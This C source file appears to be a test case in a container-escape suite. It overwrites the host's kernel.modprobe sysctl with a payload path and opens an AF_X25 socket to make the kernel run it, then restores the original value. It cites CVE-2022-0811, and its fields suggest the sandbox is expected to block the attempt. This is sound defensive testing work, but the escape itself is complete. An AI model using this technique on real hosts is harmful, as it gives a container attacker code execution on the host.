// SPDX-License-Identifier: GPL-2.0-only
/*
 * A writable sysctl names the program that the host's kernel runs to load a
 * module; a socket of a family that is not loaded yet asks for one. The usual
 * last step of kernel exploits, and all that it takes where /proc/sys is
 * writable (CVE-2022-0811 again; MITRE ATT&CK T1611).
 */
#include <errno.h>
#include <string.h>
#include <sys/socket.h>

#include "escape.h"
#include "host.h"

#define MODPROBE	"/proc/sys/kernel/modprobe"

static char before[256];

static void remember(struct args *a)
{
	(void)a;
	read_file(MODPROBE, before, sizeof(before));
	before[strcspn(before, "\n")] = 0;
}

static void put_back(void)
{
	write_file(MODPROBE, before);
}

static int attempt(const struct args *a)
{
	int error = drop_payload();

	(void)a;
	if (!error)
		error = write_file(MODPROBE, HOST_PAYLOAD);
	if (!error)
		socket(AF_X25, SOCK_SEQPACKET, 0);
	return error;
}

const struct escape modprobe_path[] = {
	{ "kernel.modprobe", { .caps = ALL_CAPS }, remember, .attempt = attempt,
	  .escaped = owned, .restore = put_back, .error = EACCES,
	  .act = BULKHEAD_ACT_OPEN, .rule = "preset proc-kernel" },
	{ NULL }
};
